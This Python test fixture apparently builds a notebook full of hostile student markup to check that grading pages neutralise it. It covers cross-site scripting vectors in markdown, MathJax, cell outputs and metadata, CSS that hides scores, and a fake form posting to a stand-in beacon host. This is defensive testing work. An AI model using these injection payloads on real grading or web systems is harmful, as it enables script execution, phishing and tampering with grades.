"""A hostile student's markup, one payload per class of attack on the pages that render a submission.

Every page that shows a student's notebook (the formgrader's submission page, the feedback HTML, the
class report and what it links) must leave all of these inert. Each script payload reports itself by
pushing its name onto ``window.__xss`` and calling ``alert``; each payload that would make the browser
fetch something asks for ``https://xss-beacon.invalid/<name>`` (or ``/xss-beacon/<name>``); each
style payload paints with :data:`STUDENT_COLOUR`. ``tests/browser/test_student_markup.py`` loads the
pages in Chromium and watches all three; ``tests/autograder/test_sanitize.py`` runs the corpus through
the sanitizer and the exporters.

The classes (issue 45): raw HTML in markdown (script, event handlers, ``javascript:``/``data:`` URLs,
frames and ``srcdoc``, SVG, ``<style>`` and ``style`` that restyle the grader's page, forms, meta
refresh, ``<base>``, stylesheets, plugins, parser differentials), MathJax commands that make links,
classes, styles or fetches, stored outputs of code cells (``text/html``, ``application/javascript``,
``image/svg+xml``, ``text/markdown``, ``text/latex``, images whose data or size breaks out of the tag,
widget views and the notebook's widget state), cell and notebook metadata (tags, ids, nbgrader's
``grade_id``, execution counts, stream names, raw-cell formats, the title) and attachments.
"""

from __future__ import annotations

import base64
import copy
from dataclasses import dataclass, field
from typing import Dict, List, Optional

#: a colour no page of the course uses: any element painted with it means a student's style applied
STUDENT_COLOUR = "rgb(1, 2, 3)"
_CSS = "rgb(1,2,3)"
BEACON = "https://xss-beacon.invalid/"


def js(name: str) -> str:
    """JavaScript that reports ``name`` ran (no quotes of the enclosing attribute used: '')."""
    return f"(window.__xss=window.__xss||[]).push('{name}');alert('{name}')"


@dataclass(frozen=True)
class Payload:
    name: str
    #: ``markdown`` (a written answer's source), ``output`` (a code cell's output), ``raw`` (a raw cell),
    #: ``cell_metadata``, ``notebook_metadata``, ``attachment``, ``cell`` (fields of a code cell)
    where: str
    value: object
    #: characters that must still be readable on the page (the payload shown as text), if any
    visible: Optional[str] = None
    #: a student's code can make this output in the graded kernel (``display(data, raw=True)``)
    by_code: bool = False
    extra: Dict = field(default_factory=dict)


def _png() -> str:
    """A real 1x1 PNG, base64 (valid image data a size attack rides on)."""
    raw = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                        "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a1f1d2"
                        "a80000000049454e44ae426082")
    return base64.b64encode(raw).decode()


SVG_SCRIPT = (f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('svg_onload')}\">"
              f"<script>{js('svg_script')}</script><rect width='10' height='10' fill='{_CSS}'/></svg>")

MARKDOWN: List[Payload] = [
    Payload("md_script", "markdown", f"My answer. <script>{js('md_script')}</script>", visible="<script>"),
    Payload("md_img_onerror", "markdown", f"<img src=x onerror=\"{js('md_img_onerror')}\"> bubble",
            visible="onerror="),
    Payload("md_mixed_case_handler", "markdown", f"<IMG SRC=x OnErRoR=\"{js('md_mixed_case')}\">",
            visible="OnErRoR"),
    Payload("md_body_onload", "markdown", f"<body onload=\"{js('md_body_onload')}\">text</body>", visible="onload"),
    Payload("md_details_ontoggle", "markdown",
            f"<details open ontoggle=\"{js('md_ontoggle')}\"><summary>s</summary>d</details>",
            visible="ontoggle"),
    Payload("md_svg", "markdown", SVG_SCRIPT, visible="<svg"),
    Payload("md_javascript_link", "markdown", f"<a href=\"javascript:{js('md_js_link')}\">open me</a>",
            visible="javascript:"),
    Payload("md_entity_javascript_link", "markdown",
            f"<a href=\"jav&#x09;ascript&#58;{js('md_entity_link')}\">open me</a>", visible="ascript"),
    Payload("md_markdown_javascript_link", "markdown", f"[open me](javascript:{js('md_md_link')})",
            visible="open me"),
    Payload("md_data_url_link", "markdown",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
            visible="data link"),
    Payload("md_iframe_srcdoc", "markdown",
            f"<iframe srcdoc=\"<script>parent.{js('md_srcdoc')}</script>\"></iframe>", visible="<iframe"),
    Payload("md_iframe_src", "markdown", f"<iframe src=\"{BEACON}md_iframe_src\"></iframe>", visible="<iframe"),
    Payload("md_object", "markdown", f"<object data=\"{BEACON}md_object\"></object><embed src=\"{BEACON}md_embed\">",
            visible="<object"),
    Payload("md_style_block", "markdown",
            f"<style>body, html, div, p {{ background: {_CSS} !important; color: {_CSS} !important }}</style>",
            visible="<style>"),
    Payload("md_style_attribute", "markdown",
            f"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:{_CSS};z-index:9999\">"
            "covers the page</div>", visible="position:fixed"),
    # style that hides the grader's page rather than painting it: headings, scores, the note that
    # markup was removed, or a blank sheet laid over them
    Payload("md_style_hides_text", "markdown",
            "<style>h1, h4, #toc, .panel-heading, .score, .course-removed-markup, .rendered_html "
            "{ display: none !important; visibility: hidden !important; font-size: 0 !important }</style>",
            visible="display: none"),
    Payload("md_style_blank_overlay", "markdown",
            "<div style=\"position:absolute;top:0;left:0;width:100vw;height:100vh;background:white;"
            "z-index:99999\">&nbsp;</div><span style=\"display:none\">answer</span>",
            visible="position:absolute"),
    Payload("md_page_class", "markdown", "<div class=\"navbar navbar-fixed-top modal-backdrop in\">restyled</div>",
            visible="navbar-fixed-top"),
    Payload("md_form", "markdown",
            f"<form action=\"{BEACON}md_form\" name=\"xss-form\"><input name=\"password\" value=\"x\">"
            "<button>Save grade</button></form>", visible="<form"),
    Payload("md_meta_refresh", "markdown", f"<meta http-equiv=\"refresh\" content=\"0;url={BEACON}md_meta_refresh\">",
            visible="refresh"),
    Payload("md_base_href", "markdown", f"<base href=\"{BEACON}md_base_href/\">", visible="<base"),
    Payload("md_stylesheet", "markdown", f"<link rel=\"stylesheet\" href=\"{BEACON}md_stylesheet\">",
            visible="<link"),
    Payload("md_remote_image", "markdown", f"<img src=\"{BEACON}md_remote_image\">", visible=None),
    Payload("md_noscript_mxss", "markdown",
            f"<noscript><p title=\"</noscript><img src=x onerror={js('md_noscript')}>\"></noscript>",
            visible="noscript"),
    Payload("md_math_mxss", "markdown",
            f"<math><mtext><table><mglyph><style><img src=x onerror=\"{js('md_math_mxss')}\">",
            visible="mglyph"),
    Payload("md_comment_break", "markdown", f"<!--><img src=x onerror=\"{js('md_comment')}\">-->", visible="<!--"),
    Payload("md_escaped_text", "markdown", "I write &lt;script&gt; as text and x < y & z > w.",
            visible="<script>"),
    # MathJax (the formgrader's page loads it): commands that make links, classes, styles, fetches
    Payload("tex_href", "markdown", f"$\\href{{javascript:{js('tex_href')}}}{{x}}$", visible="href"),
    Payload("tex_class_style", "markdown", f"$\\class{{navbar-fixed-top}}{{\\style{{background:{_CSS}}}{{x}}}}$",
            visible="style"),
    Payload("tex_unicode_require", "markdown", f"$\\unicode{{x41}} \\require{{{BEACON}tex_require}}$",
            visible="require"),
    Payload("tex_html_v3", "markdown", f"$\\htmlStyle{{background:{_CSS}}}{{x}} \\cssId{{statusmessage}}{{y}}$",
            visible="htmlStyle"),
]

#: outputs a student's code produces in the graded kernel (``code``) or writes into the JSON
OUTPUTS: List[Payload] = [
    Payload("out_html", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "text/html": f"<b>table</b><script>{js('out_html_script')}</script>"
                     f"<img src=x onerror=\"{js('out_html_onerror')}\">"
                     f"<style>body{{background:{_CSS} !important}}</style>",
        "text/plain": "<IPython.core.display.HTML object>"}},
        by_code=True),
    Payload("out_javascript", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "application/javascript": js("out_javascript")}},
        by_code=True),
    Payload("out_svg", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "image/svg+xml": SVG_SCRIPT}},
        by_code=True),
    Payload("out_markdown", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "text/markdown": f"**md** <img src=x onerror=\"{js('out_markdown')}\">"}},
        by_code=True),
    Payload("out_latex", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "text/latex": f"$\\href{{javascript:{js('out_latex')}}}{{x}}$ <img src=x onerror=\"{js('out_latex_img')}\">"}},
        by_code=True),
    Payload("out_isolated_html", "output", {"output_type": "display_data",
                                            "metadata": {"text/html": {"isolated": True}}, "data": {
        "text/html": f"<script>parent.{js('out_isolated')}</script>"}},
        by_code=True),
    Payload("out_png_breakout", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "image/png": f"x\" onerror=\"{js('out_png_breakout')}"}},
        by_code=True),
    Payload("out_png_size", "output", {"output_type": "display_data",
                                       "metadata": {"image/png": {"width": f"1 onload={js('out_png_size')}"}},
                                       "data": {"image/png": _png()}},
        by_code=True),
    Payload("out_widget_view", "output", {"output_type": "display_data", "metadata": {}, "data": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2, "version_minor": 0},
        "text/plain": "HTML(value='...')"}},
        by_code=True),
    Payload("out_stream_name", "output", {"output_type": "stream",
                                          "name": f"stdout\"><img src=x onerror=\"{js('out_stream_name')}\">",
                                          "text": "printed"}),
    Payload("out_unknown_type", "output", {"output_type": f"<img src=x onerror=\"{js('out_unknown')}\">",
                                           "data": {"text/html": f"<img src=x onerror=\"{js('out_unknown2')}\">"}}),
    Payload("out_execution_count", "output", {"output_type": "execute_result",
                                              "execution_count": f"<img src=x onerror=\"{js('out_count')}\">",
                                              "metadata": {}, "data": {"text/plain": "42"}}),
]

#: the rest of the notebook's JSON
STRUCTURE: List[Payload] = [
    Payload("cell_execution_count", "cell", {"execution_count": f"<img src=x onerror=\"{js('cell_count')}\">"}),
    Payload("cell_tags", "cell_metadata", {"tags": [f"x\"><img src=x onerror=\"{js('cell_tags')}\">"]}),
    Payload("cell_grade_id", "cell_metadata", {"nbgrader": {
        "grade": False, "solution": True, "locked": False, "schema_version": 3,
        "grade_id": f"x\"><img src=x onerror=\"{js('cell_grade_id')}\">"}}),
    Payload("cell_id", "cell", {"id": f"x\"><img src=x onerror=\"{js('cell_id')}\">"}),
    Payload("raw_html_cell", "raw", f"<script>{js('raw_html_cell')}</script><img src=x onerror=\"{js('raw_img')}\">",
            extra={"metadata": {"raw_mimetype": "text/html"}}),
    Payload("attachment_svg", "attachment", {"evil.svg": {"image/svg+xml": base64.b64encode(
        SVG_SCRIPT.encode()).decode()}}, extra={"source": "![diagram](attachment:evil.svg)"}),
    Payload("attachment_html", "attachment", {"page.html": {"text/html": base64.b64encode(
        f"<script>{js('attachment_html')}</script>".encode()).decode()}},
        extra={"source": "[my page](attachment:page.html) ![p](attachment:page.html)"}),
    Payload("nb_widget_state", "notebook_metadata", {"widgets": {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"evil": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
            "state": {"value": f"<img src=x onerror=\"{js('nb_widget_state')}\">"}}}}}}),
    Payload("nb_title", "notebook_metadata", {"title": f"</title><script>{js('nb_title')}</script>"}),
    Payload("nb_language", "notebook_metadata", {"language_info": {
        "name": f"python\"><script>{js('nb_language')}</script>", "pygments_lexer": "ipython3"}}),
]

ALL: List[Payload] = MARKDOWN + OUTPUTS + STRUCTURE


def output_code(payload: Payload) -> str:
    """The code a student runs to make ``payload``'s output in the graded kernel."""
    return (f"from IPython.display import display\n"
            f"display({payload.value['data']!r}, raw=True, metadata={payload.value['metadata']!r})")


def hostile(nb, answer_id: str, payloads: List[Payload] = ALL, stored_outputs: bool = True):
    """``nb`` (nbformat v4) with every payload in it: markdown ones in the written answer ``answer_id``
    and each in a cell of its own, outputs as stored outputs of added code cells (and the code that
    makes them, for those a kernel can make), the rest where it belongs. A new notebook."""
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

    nb = copy.deepcopy(nb)
    answer = next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == answer_id)
    markdown = [p for p in payloads if p.where == "markdown"]
    answer.source = "\n\n".join(p.value for p in markdown) or answer.source
    added = []
    for p in markdown:
        added.append(new_markdown_cell(p.value))
    for p in payloads:
        if p.where == "output":
            cell = new_code_cell(output_code(p) if p.by_code else "pass")
            if stored_outputs or not p.by_code:
                cell.outputs = [copy.deepcopy(p.value)]
            added.append(cell)
        elif p.where == "cell":
            cell = new_code_cell("x = 1")
            cell.update(copy.deepcopy(p.value))
            added.append(cell)
        elif p.where == "cell_metadata":
            cell = new_markdown_cell(f"cell with hostile metadata ({p.name})")
            cell.metadata.update(copy.deepcopy(p.value))
            added.append(cell)
        elif p.where == "raw":
            added.append(new_raw_cell(p.value, metadata=copy.deepcopy(p.extra["metadata"])))
        elif p.where == "attachment":
            cell = new_markdown_cell(p.extra["source"])
            cell.attachments = copy.deepcopy(p.value)
            added.append(cell)
        elif p.where == "notebook_metadata":
            nb.metadata.update(copy.deepcopy(p.value))
    at = nb.cells.index(answer) + 1
    nb.cells[at:at] = added
    return nb
